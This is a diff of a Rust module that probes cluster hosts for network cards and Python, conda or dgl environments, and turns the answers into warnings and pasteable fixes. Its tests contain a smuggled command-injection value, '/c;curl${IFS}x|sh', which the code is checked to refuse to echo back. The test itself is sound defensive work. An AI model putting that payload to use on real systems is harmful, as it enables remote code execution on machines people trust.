@@ -5,10 +5,7 @@ use common::quote;
 use common::record::{Facts, Host};
 use indexmap::IndexMap;
 use serde_json::value::RawValue;
-
-const ENV_SH: &str = include_str!("env.sh");
-const HOST_SH: &str = include_str!("host.sh");
-const FACTS_PY: &str = include_str!("facts.py");
+use wire::probe::{Card, EnvironmentFailure, Probe, Probed, Python};
 
 /// What is wanted of every host.
 pub struct Wanted<'a> {
@@ -17,44 +14,19 @@ pub struct Wanted<'a> {
     /// Graph servers on each host.
     pub num_servers: u16,
     /// Whose interpreter.
-    pub python: Python<'a>,
+    pub python: &'a Python,
     /// Shell text before it.
     pub setup: Option<&'a str>,
 }
 
-/// Which Python is looked at.
-#[derive(Clone, Copy)]
-pub enum Python<'a> {
-    /// A command.
-    Command(&'a str),
-    /// That of a conda environment, by its name or folder.
-    Conda(&'a str),
-    /// That of a venv, by its folder.
-    Venv(&'a str),
-}
-
-/// The script of a host.
-pub fn script(wanted: &Wanted<'_>, host: &Host) -> Vec<u8> {
-    let mut python = wanted.setup.map_or(String::new(), |setup| format!("{setup}\n")).into_bytes();
-    let (interpreter, conda, venv) = match wanted.python {
-        Python::Command(command) => (quote::sh(command), "", ""),
-        // what host.sh found
-        Python::Conda(env) => (b"\"$DGL_TOOLS_PYTHON\"".to_vec(), env, ""),
-        Python::Venv(folder) => (b"\"$DGL_TOOLS_PYTHON\"".to_vec(), "", folder),
-    };
-    python.extend([&b"exec "[..], &interpreter, b" -c ", &quote::sh(FACTS_PY)].concat());
-    let last = host.port.saturating_add(wanted.num_servers - 1);
-    let mut text = format!("first={} last={last}\n", host.port).into_bytes();
-    let workspace = wanted.workspace.unwrap_or_default();
-    let values = [("workspace", workspace.as_bytes()), ("conda", conda.as_bytes()), ("venv", venv.as_bytes()), ("python", &python)];
-    for (name, value) in values {
-        text.extend_from_slice(format!("{name}=").as_bytes());
-        text.extend(quote::sh(value));
-        text.push(b'\n');
+/// What one host is asked.
+pub fn request(wanted: &Wanted<'_>, host: &Host) -> Probe {
+    Probe {
+        workspace: wanted.workspace.map(str::to_owned),
+        server_ports: Some((host.port, host.port.saturating_add(wanted.num_servers - 1))),
+        python: wanted.python.clone(),
+        setup: wanted.setup.map(str::to_owned),
     }
-    text.extend_from_slice(ENV_SH.as_bytes());
-    text.extend_from_slice(HOST_SH.as_bytes());
-    text
 }
 
 /// What a host answered: its facts, and what is missing but no error.
@@ -66,87 +38,103 @@ pub struct Answer {
     pub warnings: Vec<Fault>,
 }
 
-/// Reads the lines `NAME VALUE` of the script.
-pub fn answer(host: &Host, python: Python<'_>, lines: &[String]) -> Result<Answer, Fault> {
-    let mut facts = Facts::default();
-    let mut cards = Vec::new();
-    let mut interpreter = match python {
-        Python::Command(command) => command,
-        Python::Conda(_) | Python::Venv(_) => "its Python",
-    };
-    let (mut no_env, mut why) = (None, String::new());
-    for line in lines {
-        let (name, value) = line.split_once(' ').unwrap_or((line, ""));
-        let text = || Some(value.to_owned()).filter(|value| !value.is_empty());
-        match name {
-            "card" => cards.extend(value.split_once(' ')),
-            "cpus" => facts.cpus = value.parse().ok(),
-            "mem" => facts.mem_bytes = value.parse().ok(),
-            "shm" => facts.shm_free_bytes = value.parse().ok(),
-            "free" => facts.free_bytes = value.parse().ok(),
-            "fs" => facts.workspace_fs = text(),
-            "gpus" => facts.gpus = value.parse().ok(),
-            "nofile" => facts.nofile = value.parse().ok(),
-            "master_port" => facts.master_port = value.parse().ok(),
-            "home" => facts.home = text(),
-            "python" => facts.python = text(),
-            "executable" => facts.python_path = text(),
-            "prefix" => facts.prefix = text(),
-            "conda_env" => facts.conda_env = text(),
-            "path" => facts.path = text(),
-            "interpreter" => interpreter = value,
-            "why" => why = format!(": {value}"),
-            "noenv" => no_env = Some(Fault::unreachable(host.place(), value)),
-            "cure" => no_env = no_env.map(|fault| fault.fix(checked_cure(value))),
-            "dgl" => facts.dgl = text(),
-            "torch" => facts.torch = text(),
-            _ => {}
-        }
-    }
-    if let Some(fault) = no_env {
-        return Err(fault);
+/// What the answer of a host means for its record.
+pub fn answer(host: &Host, python: &Python, probed: Probed) -> Result<Answer, Fault> {
+    if let Some(failure) = &probed.environment_failure {
+        return Err(no_environment(host, python, failure));
     }
     let mut warnings = Vec::new();
     let mut warn = |problem: String, fix: &str| warnings.push(Fault::data(format!("warning: {}", host.place()), problem).fix(fix));
-    let ip = host.ip.to_string();
-    match cards.iter().find(|(_, address)| *address == ip) {
-        Some((card, _)) => facts.iface = Some((*card).to_owned()),
-        None if cards.is_empty() => {
+    let iface = match probed.cards.iter().find(|card| card.address == host.ip.0) {
+        Some(card) => Some(card.name.clone()),
+        None if probed.cards.is_empty() => {
             let problem = "its network cards could not be listed, so nobody knows whether DGL finds its address";
-            warn(problem.to_owned(), "install iproute2 there, or Python");
+            warn(problem.to_owned(), "look what `ip addr` says there");
+            None
         }
-        None => return Err(no_card(host, &cards)),
-    }
+        None => return Err(no_card(host, &probed.cards)),
+    };
+    let found = probed.python.unwrap_or_default();
     let name_it = "name the job's Python: --conda ENV, --venv DIR or --python CMD, with --setup where it needs one";
-    match (&facts.python, &facts.dgl) {
-        (None, _) => warn(format!("{interpreter} does not run there{why}"), name_it),
+    let asked = match (&probed.environment, python) {
+        (Some(environment), _) => environment.interpreter.as_str(),
+        (None, Python::Command(command)) => command,
+        (None, Python::Conda(_) | Python::Venv(_)) => "its Python",
+    };
+    match (&found.version, &found.dgl) {
+        (None, _) => {
+            let why = probed.python_failure.map(|failure| failure.problem).filter(|why| !why.is_empty());
+            let why = why.map_or(String::new(), |why| format!(": {why}"));
+            warn(format!("{asked} does not run there{why}"), name_it);
+        }
         (_, None) => {
-            let python = facts.python_path.as_deref().unwrap_or(interpreter);
+            let python = found.executable.as_deref().unwrap_or(asked);
             warn(format!("no dgl in {python}"), &format!("install dgl there, or {name_it}"));
         }
         _ => {}
     }
+    let (prefix, conda_env, path) = match probed.environment {
+        Some(environment) => (Some(environment.prefix), environment.conda_env, Some(environment.path)),
+        None => (None, None, None),
+    };
+    let facts = Facts {
+        iface,
+        cpus: probed.cpus,
+        mem_bytes: probed.mem_bytes,
+        shm_free_bytes: probed.shm_free_bytes,
+        free_bytes: probed.free_bytes,
+        gpus: Some(probed.gpus),
+        nofile: probed.nofile,
+        master_port: probed.master_port,
+        home: probed.home.map(|home| home.0.to_string_lossy().into_owned()),
+        workspace_fs: probed.workspace_fs,
+        python: found.version,
+        python_path: found.executable,
+        prefix,
+        conda_env,
+        path,
+        dgl: found.dgl,
+        torch: found.torch,
+    };
     Ok(Answer { facts, warnings })
 }
 
-/// The cures of env.sh. People paste them, so they are known here, and a host has its word only in a path.
-fn checked_cure(said: &str) -> &str {
-    let with_path = ["make it there: python3 -m venv ", "say --conda "];
-    let whole = [
-        "conda env list tells there which there are",
-        "conda env list tells there which there are; --conda takes a folder too",
-        "name a venv with --venv",
-        "install Python into it, or name another environment",
-    ];
-    let path = with_path.iter().find_map(|beginning| said.strip_prefix(beginning));
-    match path.is_some_and(|path| path.starts_with('/') && quote::may_be_pasted(path)) || whole.contains(&said) {
-        true => said,
-        false => "make the environment there, or name another one with --conda or --venv",
-    }
+/// Why there is no such environment. People paste cures, so a host has its word there only in a path that means itself.
+fn no_environment(host: &Host, python: &Python, failure: &EnvironmentFailure) -> Fault {
+    const WHICH_THERE_ARE: &str = "conda env list tells there which there are";
+    let with_path = |command: &str, path: &str| match path.starts_with('/') && quote::may_be_pasted(path) {
+        true => format!("{command} {path}"),
+        false => "make the environment there, or name another one with --conda or --venv".to_owned(),
+    };
+    let (problem, fix) = match failure {
+        EnvironmentFailure::NoSuchFolder { prefix } => {
+            let fix = match python {
+                Python::Venv(_) => with_path("make it there: python3 -m venv", prefix),
+                _ => WHICH_THERE_ARE.to_owned(),
+            };
+            (format!("no such folder: {prefix}"), fix)
+        }
+        EnvironmentFailure::IsConda { prefix } => (format!("{prefix} is a conda environment"), with_path("say --conda", prefix)),
+        EnvironmentFailure::NotConda { prefix } => {
+            (format!("{prefix} is no conda environment: it has no conda-meta"), "name a venv with --venv".to_owned())
+        }
+        EnvironmentFailure::NoSuchName { looked_in } => {
+            let places = if looked_in.is_empty() { "the places where conda usually is".to_owned() } else { looked_in.join(", ") };
+            let name = match python {
+                Python::Command(name) | Python::Conda(name) | Python::Venv(name) => name,
+            };
+            (format!("no conda environment {name} in {places}"), format!("{WHICH_THERE_ARE}; --conda takes a folder too"))
+        }
+        EnvironmentFailure::NoInterpreter { prefix } => {
+            (format!("no bin/python3 in {prefix}"), "install Python into it, or name another environment".to_owned())
+        }
+    };
+    Fault::unreachable(host.place(), problem).fix(fix)
 }
 
-fn no_card(host: &Host, cards: &[(&str, &str)]) -> Fault {
-    let real: Vec<String> = cards.iter().filter(|(card, _)| *card != "lo").map(|(card, address)| format!("{card} {address}")).collect();
+fn no_card(host: &Host, cards: &[Card]) -> Fault {
+    let real = cards.iter().filter(|card| card.name != "lo");
+    let real: Vec<String> = real.map(|card| format!("{} {}", card.name, card.address)).collect();
     let shown = if real.is_empty() { "there is only lo".to_owned() } else { real.join(", ") };
     let problem = format!("{} is not the first address of a card there ({shown}); DGL would take the host for machine 0", host.ip);
     let fix = "write the address of its card in ip_config (DGL compares only the first address of each card)";
@@ -191,30 +179,39 @@ pub fn rewritten(line: &[u8], outcome: Result<&Facts, &str>) -> Result<Vec<u8>, 
 mod tests {
     use super::*;
     use common::record::IpAddr;
+    use wire::Failure;
+    use wire::probe::{Environment, Interpreter};
 
     fn host(ip: &str) -> Host {
         Host { of: 1, ip: IpAddr(ip.parse().unwrap()), port: 30050, ..Host::default() }
     }
 
+    fn probed(cards: &[(&str, &str)], version: Option<&str>, dgl: Option<&str>) -> Probed {
+        let card = |(name, address): &(&str, &str)| Card { name: (*name).to_owned(), address: address.parse().unwrap() };
+        let python =
+            version.map(|version| Interpreter { version: Some(version.to_owned()), dgl: dgl.map(str::to_owned), ..Interpreter::default() });
+        Probed { cards: cards.iter().map(card).collect(), python, ..Probed::default() }
+    }
+
+    fn command(word: &str) -> Python {
+        Python::Command(word.to_owned())
+    }
+
     #[test]
     fn answers() {
-        let whole = ["card lo 127.0.0.1", "card eth0 10.77.0.2", "python 3.10.1", "dgl 2.1.0"];
-        let none = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure make it there: python3 -m venv /v"];
-        let evil = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure say --conda /v;curl${IFS}x|sh"];
-        let table: [(&str, &[&str], Result<(Option<&str>, usize), &str>); 7] = [
-            ("10.77.0.2", &whole, Ok((Some("eth0"), 0))),
-            ("10.0.0.5", &whole, Err("10.0.0.5 is not the first address of a card there (eth0 10.77.0.2); DGL would")),
-            ("10.0.0.5", &whole[..1], Err("(there is only lo)")),
-            ("10.77.0.2", &whole[..3], Ok((Some("eth0"), 1))),
-            ("10.77.0.2", &[], Ok((None, 2))),
-            ("10.77.0.2", &none, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make it there: python3 -m venv /v")),
-            ("10.77.0.2", &evil, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make the environment there, or name")),
+        let cards = [("lo", "127.0.0.1"), ("eth0", "10.77.0.2")];
+        let whole = probed(&cards, Some("3.10.1"), Some("2.1.0"));
+        let table: [(&str, Probed, Result<(Option<&str>, usize), &str>); 5] = [
+            ("10.77.0.2", whole.clone(), Ok((Some("eth0"), 0))),
+            ("10.0.0.5", whole, Err("10.0.0.5 is not the first address of a card there (eth0 10.77.0.2); DGL would")),
+            ("10.0.0.5", probed(&cards[..1], None, None), Err("(there is only lo)")),
+            ("10.77.0.2", probed(&cards, Some("3.10.1"), None), Ok((Some("eth0"), 1))),
+            ("10.77.0.2", Probed::default(), Ok((None, 2))),
         ];
-        for (ip, lines, wanted) in table {
-            let lines: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
-            match (answer(&host(ip), Python::Command("python3"), &lines), wanted) {
+        for (ip, probed, wanted) in table {
+            match (answer(&host(ip), &command("python3"), probed), wanted) {
                 (Ok(got), Ok((iface, warnings))) => {
-                    assert_eq!((got.facts.iface.as_deref(), got.warnings.len()), (iface, warnings), "{lines:?}");
+                    assert_eq!((got.facts.iface.as_deref(), got.warnings.len()), (iface, warnings), "{got:?}");
                 }
                 (Err(fault), Err(text)) => assert!(fault.to_string().contains(text), "{fault}"),
                 (got, wanted) => assert!(got.is_ok() == wanted.is_ok(), "{got:?} {wanted:?}"),
@@ -223,16 +220,43 @@ mod tests {
     }
 
     #[test]
-    fn an_interpreter_is_named_by_its_path() {
-        let table: [(&[&str], Python<'_>, &str); 4] = [
-            (&["python 3.11.2", "executable /usr/bin/python3"], Python::Command("python3"), "no dgl in /usr/bin/python3"),
-            (&["python 3.11.2"], Python::Command("python3"), "no dgl in python3"),
-            (&["why sh: not found"], Python::Command("/o/python"), "/o/python does not run there: sh: not found"),
-            (&["prefix /v", "interpreter /v/bin/python3"], Python::Venv("/v"), "/v/bin/python3 does not run there"),
+    fn an_environment_that_is_not_there_has_a_cure_that_may_be_pasted() {
+        let folder = |prefix: &str| EnvironmentFailure::NoSuchFolder { prefix: prefix.to_owned() };
+        let (venv, conda) = (Python::Venv("~/v".into()), Python::Conda("gnn".into()));
+        let nowhere = EnvironmentFailure::NoSuchName { looked_in: Vec::new() };
+        let is_conda = |prefix: &str| EnvironmentFailure::IsConda { prefix: prefix.to_owned() };
+        let table = [
+            (&venv, folder("/v"), "no such folder: /v\n  fix: make it there: python3 -m venv /v"),
+            (&venv, is_conda("/c"), "/c is a conda environment\n  fix: say --conda /c"),
+            (&venv, is_conda("/c;curl${IFS}x|sh"), "/c;curl${IFS}x|sh is a conda environment\n  fix: make the environment there, or"),
+            (&conda, folder("/v"), "no such folder: /v\n  fix: conda env list tells"),
+            (&conda, nowhere, "no conda environment gnn in the places where conda usually is\n  fix: conda env list"),
         ];
-        for (lines, python, warning) in table {
-            let lines: Vec<String> = lines.iter().chain(&["card eth0 10.77.0.2"]).map(|line| (*line).to_owned()).collect();
-            let warnings = answer(&host("10.77.0.2"), python, &lines).unwrap().warnings;
+        for (python, failure, text) in table {
+            let probed = Probed { environment_failure: Some(failure), ..Probed::default() };
+            let fault = answer(&host("10.77.0.2"), python, probed).unwrap_err().to_string();
+            assert!(fault.starts_with(&format!("host 0 (10.77.0.2): {text}")), "{fault}");
+        }
+    }
+
+    #[test]
+    fn an_interpreter_is_named_by_its_path() {
+        let plain = probed(&[("eth0", "10.77.0.2")], Some("3.11.2"), None);
+        let with_path = Probed {
+            python: plain.python.clone().map(|python| Interpreter { executable: Some("/usr/bin/python3".into()), ..python }),
+            ..plain.clone()
+        };
+        let why = Probed { python: None, python_failure: Some(Failure::new("sh: not found")), ..plain.clone() };
+        let environment = Environment { prefix: "/v".into(), interpreter: "/v/bin/python3".into(), conda_env: None, path: "/bin".into() };
+        let in_venv = Probed { python: None, environment: Some(environment), ..plain.clone() };
+        let table = [
+            (with_path, command("python3"), "no dgl in /usr/bin/python3"),
+            (plain, command("python3"), "no dgl in python3"),
+            (why, command("/o/python"), "/o/python does not run there: sh: not found"),
+            (in_venv, Python::Venv("/v".into()), "/v/bin/python3 does not run there"),
+        ];
+        for (probed, python, warning) in table {
+            let warnings = answer(&host("10.77.0.2"), &python, probed).unwrap().warnings;
             assert_eq!(warnings.len(), 1);
             assert!(warnings[0].to_string().starts_with(&format!("warning: host 0 (10.77.0.2): {warning}\n  fix: ")), "{}", warnings[0]);
         }
